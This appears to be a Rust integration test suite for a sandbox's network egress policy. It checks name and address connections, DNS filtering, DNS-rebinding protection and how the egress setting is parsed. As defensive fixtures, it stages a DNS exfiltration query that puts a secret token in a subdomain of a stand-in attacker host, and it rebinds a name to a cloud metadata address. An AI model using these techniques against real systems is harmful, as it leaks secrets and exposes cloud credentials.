//! Transparent egress end to end: programs that know nothing of proxies connect by name and
//! by address, the policy resolver answers only policy names (the test host's nameserver
//! records what reaches it), and every refusal is ECONNREFUSED, logged, with nothing arriving
//! at the test host.

use std::net::{IpAddr, Ipv4Addr};
use std::time::Duration;

use serde_json::Value;

use crate::support::{
    EGRESS_SETTING, HOST, HOST_V6, Lab, METADATA, NAMESERVER, Nameserver, Side, Upstream, python,
    relayed, rule, transparent_direct, transparent_on,
};

const PORT: u16 = 9000;

fn denials<'a>(run: &'a crate::support::Run, layer: &str) -> Vec<&'a Value> {
    run.events("denied", layer)
}

#[test]
fn programs_without_proxy_support_connect_by_name_and_by_address() {
    by_name_and_by_address(Path::Direct);
}

/// The same through the relay (what a kernel without the TCP fence gets): the same
/// connections arrive and the same one is refused; the agent's peer is the hand-off listener.
#[test]
fn relayed_programs_connect_by_name_and_by_address() {
    by_name_and_by_address(Path::Relay);
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Path {
    Direct,
    Relay,
}

fn by_name_and_by_address(path: Path) {
    let Some(lab) = Lab::start() else { return };
    let upstream = lab.upstream(&[PORT, PORT + 1, PORT + 2]);
    let python = python();
    let network = [
        rule(
            "by_name",
            &format!("host: api.test.example, port: {PORT}"),
            &[&python],
        ),
        rule(
            "by_ip",
            &format!("host: \"{HOST}\", port: {}", PORT + 1),
            &[&python],
        ),
        rule(
            "v6",
            &format!("host: v6.test.example, port: {PORT}"),
            &[&python],
        ),
        // Allowed, and nothing listens there.
        rule(
            "closed",
            &format!("host: api.test.example, port: {}", PORT + 3),
            &[&python],
        ),
    ]
    .concat();
    let policy = lab.policy("policy.yaml", &network);
    let sandbox = match path {
        Path::Direct => lab.sandbox(&policy),
        Path::Relay => lab.sandbox(&policy).env(EGRESS_SETTING, "relay"),
    };
    let run = sandbox.agent(&[
        "directs_get",
        &format!("api.test.example:{PORT}/by-name"),
        &format!("{HOST}:{}/by-ip", PORT + 1),
        &format!("v6.test.example:{PORT}/v6"),
        &format!("api.test.example:{}/other-port", PORT + 2),
        &format!("api.test.example:{}/closed", PORT + 3),
    ]);
    let (v4_peer, v6_peer) = match path {
        Path::Direct => {
            if !transparent_direct(&run, "seccomp ADDFD, pidfd_getfd, Landlock ABI 4") {
                return;
            }
            (HOST.to_string(), HOST_V6.to_string())
        }
        Path::Relay => {
            if !transparent_on(&run, "seccomp ADDFD, pidfd_getfd") {
                return;
            }
            assert!(relayed(&run), "{run}");
            ("127.0.0.1".to_owned(), "::1".to_owned())
        }
    };
    let results = run.json();
    assert_eq!(results[0]["status"], 200, "{run}");
    assert_eq!(results[0]["peer"][0], v4_peer, "{run}");
    assert_eq!(results[1]["status"], 200, "{run}");
    assert_eq!(results[2]["status"], 200, "{run}");
    assert_eq!(results[2]["peer"][0], v6_peer, "{run}");
    assert_eq!(results[3]["error"], "ECONNREFUSED", "{run}");
    // The server's own refusal: at connect(), or relayed (connect() is answered before the
    // relay dials), as a reset rather than a clean end.
    let closed = match path {
        Path::Direct => "ECONNREFUSED",
        Path::Relay => "ECONNRESET",
    };
    assert_eq!(results[4]["error"], closed, "{run}");
    assert_eq!(
        upstream.requests_on(PORT),
        ["GET /by-name HTTP/1.1", "GET /v6 HTTP/1.1"]
    );
    assert_eq!(upstream.requests_on(PORT + 1), ["GET /by-ip HTTP/1.1"]);
    assert!(
        upstream.seen_on(PORT + 2).is_empty(),
        "{:?}",
        upstream.seen()
    );
    let denied = denials(&run, "network");
    assert_eq!(denied.len(), 1, "{run}");
    let line = denied[0];
    assert_eq!(line["exe"], python.as_str(), "{line}");
    assert_eq!(line["port"], PORT + 2, "{line}");
    assert!(
        line["what"]
            .as_str()
            .is_some_and(|w| w.contains("api.test.example")),
        "the names tried: {line}"
    );
    // The policy allowed the closed port too.
    let allowed = run.events("allowed", "transparent");
    assert_eq!(allowed.len(), 4, "{run}");
}

#[test]
fn dns_answers_policy_names_only_and_refused_names_never_leave() {
    let Some(lab) = Lab::start() else { return };
    let nameserver = Nameserver::start(&lab.net, Side::Host, IpAddr::V4(NAMESERVER));
    nameserver.set("svc.test.example", &[IpAddr::V4(HOST)]);
    nameserver.set("exfil.attacker.example", &[IpAddr::V4(HOST)]);
    let upstream = lab.upstream(&[PORT]);
    let network = rule(
        "svc",
        &format!("host: \"*.test.example\", port: {PORT}"),
        &[&python()],
    );
    let policy = lab.policy("policy.yaml", &network);
    // The control: from the pod the nameserver answers the attacker's name.
    let control = lab.net.enter(Side::Pod, || {
        std::net::UdpSocket::bind("0.0.0.0:0").and_then(|s| {
            s.connect((NAMESERVER, 53))?;
            s.send(&openshell_sandbox::proxy::dns::wire::query(
                1,
                "exfil.attacker.example",
                1,
            ))
        })
    });
    control.expect("control query");
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(nameserver.asked(), ["exfil.attacker.example"]);

    let run = lab.sandbox(&policy).agent(&[
        "resolve",
        "svc.test.example",
        "secret-token-1234.exfil.attacker.example",
        "exfil.attacker.example",
    ]);
    if !transparent_on(&run, "seccomp ADDFD, pidfd_getfd, Landlock ABI 4") {
        return;
    }
    let answers = run.json();
    assert_eq!(
        answers["svc.test.example"],
        serde_json::json!([HOST.to_string()]),
        "{run}"
    );
    for refused in [
        "secret-token-1234.exfil.attacker.example",
        "exfil.attacker.example",
    ] {
        assert!(answers[refused]["gaierror"].is_i64(), "{refused}: {run}");
    }
    let asked = nameserver.asked();
    assert!(
        asked.iter().skip(1).all(|n| n == "svc.test.example"),
        "only the policy name reached the nameserver: {asked:?}"
    );
    assert!(asked.len() > 1, "{asked:?}");
    let refused = denials(&run, "dns");
    assert!(
        refused.iter().any(|l| l["what"]
            == "DNS query for secret-token-1234.exfil.attacker.example"
            && l["exe"] == python().as_str()),
        "the refused name is logged with who asked: {run}"
    );
    assert!(upstream.seen().is_empty());
}

#[test]
fn a_name_rebound_to_loopback_or_metadata_never_reaches_them() {
    let Some(lab) = Lab::start() else { return };
    let nameserver = Nameserver::start(&lab.net, Side::Host, IpAddr::V4(NAMESERVER));
    nameserver.set("rebind.test.example", &[IpAddr::V4(HOST)]);
    let upstream = lab.upstream(&[80]);
    let metadata = Upstream::start(
        &lab.net,
        Side::Host,
        &[std::net::SocketAddr::new(IpAddr::V4(METADATA), 81)],
        &[],
    );
    let network = rule(
        "rebind",
        "host: rebind.test.example, ports: [80, 81]",
        &[&python()],
    );
    let policy = lab.policy("policy.yaml", &network);
    let sandbox = lab.sandbox(&policy);
    let first = sandbox.agent(&["direct_get", "rebind.test.example", "80", "/first"]);
    if !transparent_on(&first, "seccomp ADDFD, pidfd_getfd, Landlock ABI 4") {
        return;
    }
    assert_eq!(first.json()["status"], 200, "{first}");
    let rebound = [
        "rebind.test.example:81/rebound".to_owned(),
        format!("{METADATA}:81/literal"),
    ];
    let mut args = vec!["directs_get"];
    args.extend(rebound.iter().map(String::as_str));
    // The baseline: from the pod, without the sandbox, the rebound name and the literal both
    // reach the metadata service, so "it saw nothing more" below means something.
    nameserver.set("rebind.test.example", &[IpAddr::V4(METADATA)]);
    let mut argv = vec!["/usr/bin/python3", "agent.py"];
    argv.extend_from_slice(&args);
    let bare = sandbox.bare(&argv);
    let results = bare.json();
    assert_eq!(results[0]["status"], 200, "unconfined: {bare}");
    assert_eq!(results[1]["status"], 200, "unconfined: {bare}");
    let baseline = metadata.seen();
    assert_eq!(
        metadata.requests_on(81),
        ["GET /rebound HTTP/1.1", "GET /literal HTTP/1.1"],
        "unconfined: {baseline:?}"
    );
    // The name now points at the cloud metadata service, then at loopback.
    for target in [METADATA, Ipv4Addr::LOCALHOST] {
        nameserver.set("rebind.test.example", &[IpAddr::V4(target)]);
        std::thread::sleep(Duration::from_millis(1100));
        let run = sandbox.agent(&args);
        let results = run.json();
        assert!(results[0]["status"].is_null(), "{target}: {run}");
        assert!(results[1]["status"].is_null(), "{target}: {run}");
        assert!(
            !run.messages("address left out of the answer").is_empty(),
            "{target}: {run}"
        );
    }
    assert_eq!(
        metadata.seen(),
        baseline,
        "only the baseline reached the metadata service"
    );
    assert_eq!(upstream.requests_on(80), ["GET /first HTTP/1.1"]);
}

/// The setting's other values: `off` leaves only the proxy (the agent's own lookup and
/// connection reach nothing, though the policy allows the name), and a value it does not
/// know stops the sandbox before the agent runs, in one line naming the variable.
#[test]
fn the_egress_setting_turns_the_path_off_or_stops_at_a_typo() {
    let Some(lab) = Lab::start() else { return };
    let upstream = lab.upstream(&[PORT]);
    let network = rule(
        "by_name",
        &format!("host: api.test.example, port: {PORT}"),
        &[&python()],
    );
    let policy = lab.policy("policy.yaml", &network);
    let port = PORT.to_string();
    let get = |path| ["direct_get", "api.test.example", port.as_str(), path];
    // The baseline: on, the same request arrives.
    let on = lab.sandbox(&policy).agent(&get("/on"));
    if !transparent_on(&on, "seccomp ADDFD, pidfd_getfd") {
        return;
    }
    assert_eq!(on.json()["status"], 200, "{on}");
    let off = lab.sandbox(&policy).env(EGRESS_SETTING, "off");
    let off = off.agent(&get("/off"));
    assert!(off.json()["status"].is_null(), "{off}");
    assert_eq!(
        off.messages(&format!("TRANSPARENT EGRESS OFF ({EGRESS_SETTING}=off)"))
            .len(),
        1,
        "{off}"
    );
    assert_eq!(upstream.requests_on(PORT), ["GET /on HTTP/1.1"]);
    let typo = lab.sandbox(&policy).env(EGRESS_SETTING, "rely");
    let typo = typo.agent(&get("/typo"));
    assert_eq!(typo.code, 125, "{typo}");
    assert!(typo.stdout.is_empty(), "the agent never ran: {typo}");
    let errors: Vec<&Value> = typo.log.iter().filter(|l| l["level"] == "ERROR").collect();
    assert_eq!(errors.len(), 1, "one line: {typo}");
    assert_eq!(
        errors[0]["message"],
        format!("{EGRESS_SETTING}=\"rely\": expected auto, direct, relay or off"),
        "{typo}"
    );
    assert_eq!(upstream.requests_on(PORT), ["GET /on HTTP/1.1"]);
}
